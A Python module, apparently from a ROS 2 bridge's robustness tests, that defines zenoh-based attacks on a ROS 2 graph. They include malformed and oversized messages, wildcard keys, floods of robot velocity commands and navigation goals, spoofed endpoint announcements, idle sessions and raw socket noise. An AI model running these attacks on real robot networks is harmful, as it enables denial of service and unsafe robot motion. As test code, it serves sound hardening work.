"""Attacks on the ROS 2 graph of a session over zenoh, by programs that use zenoh's own library."""

import os
import random
import secrets
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from typing import Self

import zenoh
from attack_ros2 import HOST, HonestNode
from zenoh.handlers import Callback

from thbridge.ros2.distribution import Distribution
from thbridge.ros2.qos import SERVICES
from thbridge.ros2.supports import MessageSupport
from thbridge.ros2graph.sockets.zenoh import ZenohCarrier
from thbridge.ros2graph.sockets.zenoh_settings import peer_settings
from thbridge.ros2graph.values.graph import EndpointRole, NodeName
from thbridge.ros2graph.wire.zenoh.attachments import Attachment
from thbridge.ros2graph.wire.zenoh.graph import AnnouncedGraph
from thbridge.ros2graph.wire.zenoh.keys import SessionKeys, data_key, graph_key
from thbridge.sockets.addresses import Address

_GOAL = "nav2_msgs/action/NavigateToPose"
_TWIST = "geometry_msgs/msg/Twist"
_BLOCK = zenoh.CongestionControl.BLOCK
_MANY = 100
"""Endpoints of a session that a hostile program waits for before it attacks."""


class HostileSession:
    """zenoh session that can send anything, and knows the graph.

    Args:
        domain: domain of the graph.
        router: port of the router.
    """

    def __init__(self, domain: int, router: int) -> None:
        self.domain, self.router = domain, router
        self.id = f"{secrets.randbits(128) | 1 << 127:x}"
        self.zenoh = zenoh.open(peer_settings(self.id, Address(HOST, router)))
        self._graph = AnnouncedGraph(self.id)
        self._lock = threading.Lock()
        self._subscriber = self.zenoh.liveliness().declare_subscriber(
            graph_key(domain), Callback(self._hear, indirect=False), history=True
        )
        end = time.monotonic() + 10.0
        while len(self.keys(*EndpointRole)) < _MANY and time.monotonic() < end:
            time.sleep(0.01)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        """Close the session, which would otherwise receive the announcements of the next attacks."""
        self.zenoh.close()

    def keys(self, *roles: EndpointRole) -> list[str]:
        """Return the keys of all messages of endpoints with these roles, in a fixed order."""
        with self._lock:
            found = [each for each in self._graph.endpoints() if each.role in roles]
        return sorted({self.key(each.name, MessageSupport(each.type, each.hash)) for each in found})

    def key(self, name: str, support: MessageSupport) -> str:
        """Return the key of a topic or service."""
        return data_key(self.domain, name, support.dds_name, support.hash)

    def call(self, key: str, request: bytes, attachment: bytes, take: Callable[[zenoh.Reply], None]) -> None:
        """Send a request."""
        self.zenoh.get(
            key,
            Callback(take, indirect=False),
            target=zenoh.QueryTarget.ALL,
            consolidation=zenoh.ConsolidationMode.NONE,
            timeout=60.0,
            payload=request,
            attachment=attachment,
        )

    def _hear(self, sample: zenoh.Sample) -> None:
        with self._lock:
            if sample.kind == zenoh.SampleKind.DELETE:
                self._graph.remove(str(sample.key_expr))
            else:
                self._graph.add(str(sample.key_expr))


def attack(run: Callable[[HostileSession], tuple[int, int]], domain: int, router: int) -> tuple[int, int]:
    """Run an attack with a session of its own."""
    with HostileSession(domain, router) as foe:
        return run(foe)


def _attachment(number: int = 1) -> bytes:
    return Attachment(number, time.time_ns(), os.urandom(16)).write()


def _wait(released: threading.Event, _: object) -> None:
    """Read nothing more until the end of the attack."""
    released.wait()


def _claims() -> Sequence[bytes]:
    """Return messages that announce more than they contain, or whose header is wrong."""
    sizes = (2**31, 2**32 - 1, 60_000, 7)
    counts = [b"\x00\x01\x00\x00" + struct.pack("<I", size) + bytes(60_000 if size > 9 else 8) for size in sizes]
    return [*counts, b"", b"\x00", b"\xff" * 4, b"\x00\x01\x00\x00", b"\x00\x07\x00\x00" + bytes(60)]


def wrong_messages(foe: HostileSession, seed: int, count: int) -> tuple[int, int]:
    """Send random, damaged and empty messages with right and wrong attachments to all topics and services."""
    draws, claims = random.Random(seed), _claims()
    topics = foe.keys(EndpointRole.SUBSCRIPTION)
    services = foe.keys(EndpointRole.SERVER)
    for number in range(count):
        size = draws.choice((0, 3, 60, 1400, 30_000))
        message = draws.choice((*claims, draws.randbytes(size), b"\x00\x01\x00\x00" + draws.randbytes(size)))
        attachment = draws.choice((None, b"", draws.randbytes(33), draws.randbytes(5000), _attachment(number)))
        foe.zenoh.put(draws.choice(topics), message, attachment=attachment)
        if number % 4 == 0:
            foe.zenoh.delete(draws.choice(topics), attachment=attachment)
        if number % 2 == 0:
            foe.call(draws.choice(services), message, attachment or b"", lambda reply: None)
    return 2 * count, 0


def huge_messages(foe: HostileSession, megabytes: int, count: int) -> tuple[int, int]:
    """Send messages and requests of many megabytes to all topics and services."""
    message = b"\x00\x01\x00\x00" + struct.pack("<I", megabytes << 20) + bytes((megabytes << 20) - 100)
    for number in range(count):
        for keys, send in (
            (foe.keys(EndpointRole.SUBSCRIPTION), partial(foe.zenoh.put, congestion_control=_BLOCK)),
            (foe.keys(EndpointRole.SERVER), foe.zenoh.get),
        ):
            send(keys[number * 7 % len(keys)], payload=message, attachment=_attachment())
    return 2 * count, 0


def wildcards(foe: HostileSession, count: int) -> tuple[int, int]:
    """Send messages, requests and announcements whose keys match all topics and services."""
    tokens = [foe.zenoh.liveliness().declare_token(key) for key in (f"@ros2_lv/{foe.domain}/**", "@ros2_lv/**")]
    for number in range(count):
        for key in ("**", f"{foe.domain}/**", f"{foe.domain}/robot1/*/*/*"):
            foe.zenoh.put(key, b"\x00\x01\x00\x00" + bytes(60), attachment=_attachment(number))
            foe.zenoh.delete(key, attachment=_attachment(number))
            foe.call(key, b"\x00\x01\x00\x00" + bytes(60), _attachment(number), lambda reply: None)
    return 9 * count + len(tokens), 0


def message_flood(foe: HostileSession, seconds: float) -> tuple[int, int]:
    """Send velocity commands and pose estimates to both robots as fast as the session reads."""
    types = Distribution.of("jazzy")
    publishers = []
    for name, kind in (("cmd_vel", _TWIST), ("initialpose", "geometry_msgs/msg/PoseWithCovarianceStamped")):
        message = types.encode(kind, types.make(kind))
        for robot in (1, 2):
            key = foe.key(f"/robot{robot}/{name}", types.message(kind))
            publishers.append((foe.zenoh.declare_publisher(key, congestion_control=_BLOCK), message))
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for publisher, message in publishers:
            publisher.put(message, attachment=_attachment())
        count += len(publishers)
    return count, 0


def request_flood(foe: HostileSession, seconds: float) -> tuple[int, int]:
    """Send goals and requests to many services as fast as the session reads, and never read the responses."""
    types = Distribution.of("jazzy")
    goal = types.action(_GOAL).send_goal
    calls = [(foe.key("/robot1/navigate_to_pose/_action/send_goal", MessageSupport(goal.name, goal.hash)), goal)]
    for name, kind in (
        ("/robot1/amcl/set_parameters", "rcl_interfaces/srv/SetParameters"),
        ("/robot1/map_server/map", "nav_msgs/srv/GetMap"),
        ("/robot1/amcl/get_type_description", "type_description_interfaces/srv/GetTypeDescription"),
        ("/robot1/reinitialize_global_localization", "std_srvs/srv/Empty"),
        ("/robot1/global_costmap/clear_entirely_global_costmap", "nav2_msgs/srv/ClearEntireCostmap"),
    ):
        service = types.service(kind)
        calls.append((foe.key(name, MessageSupport(service.name, service.hash)), service))
    requests = [(key, types.encode(each.request.name, types.make(each.request.name))) for key, each in calls]
    end, count, released = time.monotonic() + seconds, 0, threading.Event()
    while time.monotonic() < end:
        for key, request in requests:
            fresh = request[:4] + os.urandom(16) + request[20:] if key == requests[0][0] else request
            foe.call(key, fresh, _attachment(count), partial(_wait, released))
            count += 1
    released.set()
    return count, 0


def silent_subscribers(domain: int, router: int, sessions: int, seconds: float) -> tuple[int, int]:
    """Subscribe to all topics of the session, and read nothing."""
    foes, released = [HostileSession(domain, router) for _ in range(sessions)], threading.Event()
    take: Callable[[zenoh.Sample], None] = partial(_wait, released)
    kept = [
        foe.zenoh.declare_subscriber(key, Callback(take, indirect=False))
        for foe in foes
        for key in foe.keys(EndpointRole.PUBLISHER)
    ]
    time.sleep(seconds)
    released.set()
    for foe in foes:
        foe.zenoh.close()
    return len(kept), 0


def invented_endpoints(foe: HostileSession, count: int) -> tuple[int, int]:
    """Announce invalid and invented endpoints, and the session's nodes.

    Returns:
        The number of announcements, and 1 if a new node cannot join then.
    """
    names = SessionKeys(foe.domain, "abc")
    tokens, support = [], Distribution.of("jazzy").message(_TWIST)
    for number in range(count):
        node = NodeName("/robot1", "amcl") if number % 2 else NodeName("/", f"invented{number}")
        role, topic = [*EndpointRole][number % 4], "/robot1/cmd_vel"
        keys = names.endpoint(number, number, node, role, topic, support.dds_name, support.hash, SERVICES)
        key = keys.liveliness if number % 3 else f"@ros2_lv/{foe.domain}/{number}/{'x' * (1 + number % 400)}"
        tokens.append(foe.zenoh.liveliness().declare_token(key))
    return len(tokens), _newcomer_fails(foe.domain, foe.router)


def short_announcements(foe: HostileSession, count: int) -> tuple[int, int]:
    """Announce endpoints, and withdraw them at once."""
    names = SessionKeys(foe.domain, "abc")
    support = Distribution.of("jazzy").message(_TWIST)
    for number in range(count):
        topic, role = "/robot1/cmd_vel", EndpointRole.PUBLISHER
        keys = names.endpoint(number, 1, NodeName("/", "x"), role, topic, support.dds_name, support.hash, SERVICES)
        foe.zenoh.liveliness().declare_token(keys.liveliness).undeclare()
    return count, 0


def many_sessions(domain: int, router: int, count: int) -> tuple[int, int]:
    """Connect many sessions, which stay. Return the number of sessions, and 1 if a new node cannot join then."""
    kept = [zenoh.open(peer_settings(f"{number + 1:x}", Address(HOST, router))) for number in range(count)]
    return len(kept), _newcomer_fails(domain, router)


def noise(router: int, seed: int, count: int) -> tuple[int, int]:
    """Send random bytes to the router and to the session in many connections, and keep a part of them open."""
    draws, kept, ports = random.Random(seed), [], [router]
    # The session with the greatest id connects to all others, and so knows their ports.
    with zenoh.open(peer_settings("f" * 32, Address(HOST, router))) as looking:
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            time.sleep(0.05)
        ports += sorted({int(str(each.dst).rpartition(":")[2].partition("?")[0]) for each in looking.info.links()})
    for number in range(count):
        try:
            connection = socket.create_connection((HOST, ports[number % len(ports)]), 1.0)
            size = draws.choice((1, 2, 60, 3000, 60_000))
            connection.sendall(struct.pack("<H", draws.choice((size, 65_535))) + draws.randbytes(size))
        except OSError:
            continue
        if number % 4:
            connection.close()
        else:
            kept.append(connection)
    return count, 0


def _newcomer_fails(domain: int, router: int) -> int:
    try:
        HonestNode(ZenohCarrier(domain, Address(HOST, router)), "newcomer").close()
    except (OSError, TimeoutError):
        return 1
    return 0


def attacks_on_zenoh(
    domain: int, router: int, scale: int
) -> Iterator[tuple[str, Sequence[Callable[[], tuple[int, int]]]]]:
    """Yield attacks with their names, each for one or more processes. Each returns the number of tries, and 1 if a new
    node could not join then."""
    at = domain, router
    yield (
        "zenoh: wrong messages and requests",
        [partial(attack, partial(wrong_messages, seed=1, count=2000 * scale), *at)],
    )
    yield (
        "zenoh: messages of 30 megabytes",
        [partial(attack, partial(huge_messages, megabytes=30, count=5 * scale), *at)],
    )
    yield (
        "zenoh: messages of 40 megabytes",
        [partial(attack, partial(huge_messages, megabytes=40, count=2 * scale), *at)],
    )
    yield "zenoh: keys with wildcards", [partial(attack, partial(wildcards, count=100 * scale), *at)]
    yield "zenoh: messages without end", [partial(attack, partial(message_flood, seconds=4.0 * scale), *at)] * 3
    yield "zenoh: requests without end", [partial(attack, partial(request_flood, seconds=4.0 * scale), *at)] * 3
    yield "zenoh: subscribers that read nothing", [partial(silent_subscribers, *at, 4, 8.0)]
    yield "zenoh: invented endpoints", [partial(attack, partial(invented_endpoints, count=5000 * scale), *at)]
    yield "zenoh: short announcements", [partial(attack, partial(short_announcements, count=5000 * scale), *at)]
    yield "zenoh: many sessions", [partial(many_sessions, *at, 40)]  # Each connects to all others.
    yield "zenoh: noise", [partial(noise, router, 1, 500 * scale)]
